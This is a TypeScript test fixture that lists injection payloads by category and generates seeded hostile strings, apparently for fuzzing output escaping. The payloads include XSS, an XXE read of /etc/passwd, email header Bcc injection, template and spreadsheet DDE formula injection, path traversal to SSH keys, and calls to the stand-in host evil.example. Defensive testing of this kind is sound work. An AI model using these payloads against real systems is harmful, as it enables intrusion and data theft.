/** What somebody may write who means harm, by what it would break. */
export const HOSTILE = {
  html: [
    '<script>pwned()</script>',
    '<img src=x onerror=pwned()>',
    '"><svg/onload=pwned()>',
    "' onmouseover='pwned()",
    '</title><script>pwned()</script>',
    '</td></tr></table><form action=https://evil.example><input name=x>',
    '--><b>loud</b><!--',
    '<!--[if mso]><xml>x</xml><![endif]-->',
    '&lt;script&gt;pwned()&lt;/script&gt;',
    '&#60;script&#62;pwned()',
    '<a href="javascript:pwned()">x</a>',
    '<![CDATA[<x>]]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '<style>*{display:none}</style>',
    '<meta http-equiv=refresh content=0;url=https://evil.example>',
    '<base href=https://evil.example>',
    '<iframe srcdoc="<script>pwned()</script>">',
    '<plaintext>',
  ],
  header: [
    '\r\nBcc: everybody@evil.example',
    '\nSubject: pwned',
    '\rX-Pwned: 1',
    '%0d%0aBcc: everybody@evil.example',
    '\u2028Bcc: everybody@evil.example',
    '\u0085Bcc: everybody@evil.example',
    '=?utf-8?q?=0D=0ABcc:_everybody@evil.example?=',
    '\r\n\r\n<script>pwned()</script>',
    '\r\n.\r\nMAIL FROM:<evil@evil.example>',
  ],
  template: [
    '{{constructor}}',
    '{{{this}}}',
    '{{#with (lookup this "constructor")}}{{this}}{{/with}}',
    '{{#each this}}{{@key}}{{/each}}',
    '{{> layout}}',
    `\${7*7}`,
    '<%= 7*7 %>',
    '{% include "/etc/passwd" %}',
    '{ {this} }',
  ],
  ses: [
    '{{amazonSESUnsubscribeUrl}}',
    '{{ amazonSESUnsubscribeUrl }}',
    '{{ses:openTracker}}',
    '{{contact.email}}',
    '{{{amazonSESUnsubscribeUrl}}}',
  ],
  formula: [
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(A1:A9)',
    '\t=1+1',
    ';=1+1',
    '\uFF1D1+1',
    '",=1+1,"',
    "'=1+1",
  ],
  path: [
    '../../../etc/passwd',
    '..\\..\\windows',
    '%2e%2e%2fetc',
    '/etc/passwd',
    'a/../../b',
    'C:\\x',
    'x\u0000.md',
    'reports/public/index.html',
    '..',
    '~/.ssh/id_rsa',
  ],
  url: [
    'javascript:pwned()',
    'data:text/html,<script>pwned()</script>',
    'https://evil.example\r\nX-Pwned: 1',
    'https://user:secret@evil.example/',
    'https://evil.example" onclick="pwned()',
    '//evil.example',
    'file:///etc/passwd',
    'ht\ttps://evil.example',
    'https://github.com.evil.example/a/b/issues/1',
    'mailto:everybody@evil.example?bcc=x',
  ],
  markdown: [
    '[x](javascript:pwned())',
    '![x](https://evil.example/t.png)',
    '<https://evil.example>',
    '[x]: https://evil.example',
    '\n# Heading\n',
    '\n```\ncode',
    '@everyone #12',
    '| a | b |\n|---|---|',
    '<details open ontoggle=pwned()>',
  ],
  calendar: [
    '\r\nBEGIN:VEVENT\r\nSUMMARY:pwned',
    ';X-PWNED=1:',
    '\\nEND:VCALENDAR',
    'ATTACH:https://evil.example',
  ],
  terminal: ['\u001b]0;pwned\u0007', '\u001b[2J', '\u202Egpj.exe', '\u2066x', '\u0008\u0008', '\u009b2J'],
} as const satisfies Record<string, readonly string[]>;

export type Harm = keyof typeof HOSTILE;
export const HARMS = Object.keys(HOSTILE) as readonly Harm[];

/** The `n`th hostile text, the same each time: one to three harms among harmless words, with a mark of its own. */
export function hostileText(n: number): string {
  const random = numbers(n);
  const parts = Array.from({ length: 1 + (random() % 3) }, (_, at) => {
    // The first harm goes round, so that each is met as often as the others.
    const kind = HARMS[at === 0 ? n % HARMS.length : random() % HARMS.length]!;
    const all = HOSTILE[kind];
    return all[(at === 0 ? Math.floor(n / HARMS.length) : random()) % all.length]!;
  });
  const word = WORDS[random() % WORDS.length]!;
  const sides = [
    `${parts.join('')}zq${n}q`,
    `${word} ${parts.join(' ')} zq${n}q`,
    `zq${n}q${parts.join('')}`,
  ];
  return sides[random() % sides.length]!;
}

const WORDS = ['Warn of', 'Lämpchen', '消防車', 'a', 'Remove the', '🚒', 'ΑΒΓ', 'مصباح'] as const;

/** mulberry32 */
function numbers(seed: number): () => number {
  let state = (seed + 1) * 0x9e3779b1;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return (mixed ^ (mixed >>> 14)) >>> 0;
  };
}
